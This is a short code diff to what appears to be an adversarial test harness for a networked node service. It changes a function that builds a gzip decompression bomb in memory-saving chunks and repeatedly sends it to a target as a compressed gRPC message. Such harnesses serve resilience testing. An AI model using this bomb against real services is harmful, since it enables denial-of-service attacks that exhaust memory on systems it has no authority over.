@@ -6,7 +6,6 @@ Strangers have an address of their own. They have no certificate, or one under t
 registered. Other attackers hold the registered key of a node.
 """
 
-import gzip
 import itertools
 import os
 import random
@@ -15,6 +14,7 @@ import ssl
 import sys
 import tempfile
 import time
+import zlib
 from collections.abc import Callable, Iterable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import suppress
@@ -183,7 +183,8 @@ def send_mutated(target: Target) -> Iterator[None]:
 
 def send_bombs(target: Target) -> Iterator[None]:
     """Send compressed messages that are a thousand times as large."""
-    bomb = gzip.compress(bytes(BOMB_BYTES), 6)
+    packer, block = zlib.compressobj(6, wbits=31), bytes(2**20)  # the attacker never holds the whole
+    bomb = b"".join(packer.compress(block) for _ in range(BOMB_BYTES // len(block))) + packer.flush()
     content = call_headers(1, ("grpc-encoding", "gzip")) + message(bomb, 1, len(bomb), compressed=True)
     yield from repeat(lambda: [content], target.encrypt)
 
